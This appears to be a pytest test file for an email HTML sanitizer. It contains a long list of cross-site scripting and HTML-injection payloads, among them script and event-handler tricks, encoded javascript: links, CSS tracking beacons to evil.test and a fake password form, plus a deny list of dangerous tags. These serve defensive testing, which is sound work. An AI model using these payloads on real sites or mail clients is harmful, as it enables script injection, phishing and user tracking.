"""Whatever a mail's html tries, what is shown can neither run, load, submit nor pretend to be ours."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from utils.safe_html import html_of_text, safe_html

DANGEROUS_TAGS = set(
    "script style svg math iframe object embed applet form input button select textarea base meta link template"
    " frame frameset audio video source noscript body html head title xml portal dialog marquee slot".split()
)


class Reader(HTMLParser):
    """Reads what came out, by another parser than the one that made it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.said = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.said += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment came through")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration came through")


def inline(content_id: str) -> str | None:
    return "/api/a/attachments/7/download?expires=1&signature=x" if content_id == "logo@x" else None


def checked(html: str, images: bool = False) -> Reader:
    """What the html became, after a look at every element of it."""
    safe = safe_html(html, images=images, inline=inline)
    assert safe is not None
    reader = Reader(safe.html)
    for tag, attributes in reader.elements:
        assert tag not in DANGEROUS_TAGS, safe.html
        for name, value in attributes.items():
            check_attribute(name, value, images)
    return reader


def check_attribute(name: str, value: str, images: bool) -> None:
    assert not name.startswith("on"), name
    assert name not in (
        "id",
        "name",
        "class",
        "srcset",
        "background",
        "ping",
        "formaction",
        "action",
        "srcdoc",
        "poster",
    )
    if name == "href":
        assert re.match(r"(https?://|mailto:|tel:)", value, re.IGNORECASE), value
    elif name == "src":
        allowed = r"(/api/a/attachments/7/download\?|data:image/(png|gif|jpeg|webp);base64,|https?://)"
        assert re.match(allowed if images else allowed.replace("|https?://", ""), value, re.IGNORECASE), value
    elif name == "style":
        assert not re.search(
            r"url|expression|import|binding|behavior|javascript|\\|/\*|position|@|image-set", value
        ), value


TRICKS = """
<script>alert(1)</script>
<SCRIPT SRC=http://evil.test/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img/src="x"/onerror=alert(1)>
<img src=x:x onerror&#61;alert(1)>
<body onload=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<textarea></p><img src=x onerror=alert(1)></textarea>
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<template><script>alert(1)</script></template>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="jav&#x0A;ascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="\u2028javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://evil.test/x">x</a>
<a href="/api/keys">x</a>
<a href="//evil.test/x">x</a>
<a href="?tenant_id=b">x</a>
<a href="#login">x</a>
<a href="https://x.test" ping="https://evil.test/track">x</a>
<a href="https://x.test" target="_top" onclick="alert(1)">x</a>
<area href="javascript:alert(1)">
<img src="javascript:alert(1)">
<img src="/logout">
<img src="//evil.test/x.png">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="data:text/html,<script>alert(1)</script>">
<img src="file:///etc/passwd">
<img srcset="https://evil.test/x.png 1x, https://evil.test/y.png 2x">
<picture><source srcset="https://evil.test/x.png"><img src="cid:logo@x"></picture>
<input type=image src="https://evil.test/x.png" onfocus=alert(1) autofocus>
<video poster="https://evil.test/x.png"><source src=x onerror=alert(1)></video>
<audio src="https://evil.test/x.mp3" autoplay></audio>
<table background="https://evil.test/x.png"><tr><td background="javascript:alert(1)">x
<body background="https://evil.test/x.png">x</body>
<p style="background:url(https://evil.test/x.png)">x
<p style="background-image:url('https://evil.test/x.png')">x
<p style="background:u\\72l(https://evil.test/x.png)">x
<p style="background:ur/**/l(https://evil.test/x.png)">x
<p style="background:image-set('https://evil.test/x.png' 1x)">x
<p style="background:&#117;&#114;&#108;(https://evil.test/x.png)">x
<p style="list-style:url(https://evil.test/x.png)">x
<p style="cursor:url(https://evil.test/x.cur), auto">x
<p style="content:url(https://evil.test/x.png)">x
<p style="width:expression(alert(1))">x
<p style="width:exp/**/ression(alert(1))">x
<p style="-moz-binding:url(https://evil.test/x.xml#a)">x
<p style="behavior:url(x.htc)">x
<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Please log in</p>
<p style='font-family:"x;background:url(https://evil.test/x.png)"'>x
<p style="color:red;} body{background:url(https://evil.test/x)}">x
<p style="--x:url(https://evil.test/x.png);background:var(--x)">x
<p style="filter:url(https://evil.test/x.svg#f)">x
<div style="mask:url(https://evil.test/x.svg);clip-path:url(#x)">x
<style>@import url(https://evil.test/x.css);body{background:url(https://evil.test/y)}</style>
<style><!--</style><script>alert(1)</script>--></style>
<link rel=stylesheet href="https://evil.test/x.css">
<link rel=dns-prefetch href="//evil.test">
<meta http-equiv=refresh content="0;url=https://evil.test">
<meta http-equiv=refresh content="0;javascript:alert(1)">
<meta http-equiv="Set-Cookie" content="session=x">
<base href="https://evil.test/">
<base target=_top>
<form action="https://evil.test"><input name=password type=password><button>Log in</button></form>
<button formaction="javascript:alert(1)">x</button>
<isindex type=image src=1 onerror=alert(1)>
<details open ontoggle=alert(1)>x
<marquee onstart=alert(1)>x</marquee>
<div id=login name=login class="btn btn-danger">x</div>
<a id=app name=getElementById>x</a>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<x onclick=alert(1)>x</x>
<custom-element onmouseover=alert(1)>x
<img src="cid:logo@x" onload=alert(1)>
<img src="cid:javascript:alert(1)">
<img src="cid:../../../api/keys">
<img src="cid:https://evil.test/x.png">
<a href="cid:logo@x">x</a>
<p title='"><script>alert(1)</script>'>x
<plaintext><script>alert(1)</script>
<table><td><script>alert(1)</script><form>
<select><template><script>alert(1)</script></select>
<dialog open><form method=dialog>
<frameset onload=alert(1)><frame src="javascript:alert(1)">
<style>*{x:e\\xpression(alert(1))}</style>
<b/alt="1"onmouseover=InputBox+1>x
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<a href="https://x.test/\u202ecod.exe">x</a>
""".strip().replace("\\u2028", "\u2028").replace("\\u202e", "\u202e").split("\n")  # fmt: skip


@pytest.mark.parametrize("images", [False, True])
@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_fails(trick: str, images: bool) -> None:
    reader = checked(f"<p>before</p>{trick}<p>after", images)
    assert "before" in reader.said
    assert "alert" not in "".join(
        value for _, attributes in reader.elements for name, value in attributes.items() if name != "title"
    )


def test_tricks_fail_together_and_unfinished() -> None:
    for first, second in zip(TRICKS, TRICKS[1:] + TRICKS[:1], strict=True):
        checked(first[: len(first) // 2] + second)
        checked(second + first[:-1])


@given(st.lists(st.sampled_from([*"<>\"'=/ &;:!-", "<svg>", "<style>", "</style>", "<math>", "<a href=", "<img src=",
    "javascript:", "cid:logo@x", "<!--", "-->", "<mtext>", "<table>", "<p style=", "url(", "onerror=", "&#0;", "\0",
    "<title>", "</title>", "<form>", "<noscript>", "<![CDATA["]), max_size=40))  # fmt: skip
def test_no_heap_of_pieces_gets_through(pieces: list[str]) -> None:
    checked("".join(pieces), images=True)


def test_what_is_harmless_stays() -> None:
    html = (
        '<table width="600" bgcolor="#eeeeee"><tbody><tr><td style="color:rgb(1, 2, 3);padding:4px 8px" align="center">'
        '<b>Hello</b> <font color="red" face="Arial">you</font><br><a href="https://x.test/?a=1&amp;b=2">there</a>'
        "</td></tr></tbody></table><ul><li>one</li></ul><blockquote><p>said</p></blockquote>"
    )
    given, shown = Reader(html), checked(html)
    added = {"target": "_blank", "rel": "noopener noreferrer nofollow"}
    expected = [(tag, attributes | added if tag == "a" else attributes) for tag, attributes in given.elements]
    assert (shown.elements, shown.said) == (expected, given.said)


def test_remote_images_wait_until_they_are_asked_for() -> None:
    html = '<img src="https://x.test/a.png" alt="A"><img src="http://x.test/b.png"><img src="cid:logo@x"><img src="x">'
    safe, shown = safe_html(html, inline=inline), safe_html(html, images=True, inline=inline)
    assert safe is not None and shown is not None
    assert (safe.blocked, shown.blocked) == (2, 0)
    private, own = {"referrerpolicy": "no-referrer"}, {"src": inline("logo@x")}
    assert Reader(safe.html).elements == [
        ("img", private | {"alt": "A"}), ("img", private), ("img", private | own), ("img", private),
    ]  # fmt: skip
    assert Reader(shown.html).elements[0] == ("img", private | {"alt": "A", "src": "https://x.test/a.png"})


def test_a_content_id_may_be_escaped() -> None:
    assert checked('<img src="cid:logo%40x">').elements[0][1]["src"] == inline("logo@x")


@pytest.mark.parametrize(
    "style", ["margin:0 -100px", "margin-top: -2000px", "MARGIN-LEFT:-.5em", "text-indent:-9999px"]
)
def test_nothing_is_shown_over_what_is_around_the_mail(style: str) -> None:
    (element,) = checked(f'<div style="{style};margin:4px;color:red">x</div>').elements
    assert element == ("div", {"style": "margin:4px;color:red"})


def test_inline_parts_that_are_not_there_show_nothing() -> None:
    reader = checked('<img src="cid:other@x" alt="Logo"><img src="CID:logo@x">')
    assert [attributes.get("src", "")[:4] for _, attributes in reader.elements] == ["", "/api"]


def test_what_is_too_much_is_shown_as_text() -> None:
    for html in ("<div>" * 100_000, "x" * 1_000_001):
        assert safe_html(html) is None
    assert safe_html("<div>" * 900 + "x" + "</div>" * 900) is not None
    assert (
        html_of_text("<b> & 'c'") == '<pre style="white-space:pre-wrap">&lt;b&gt; &amp; &#x27;c&#x27;</pre>'
    )


def test_ordinary_html_is_not_taken_for_hostile() -> None:
    sloppy = "<p>one<br><li>two<td>three<img src=x>" * 5_000 + "<div><font>x</font></div>" * 5_000
    assert safe_html(sloppy) is not None
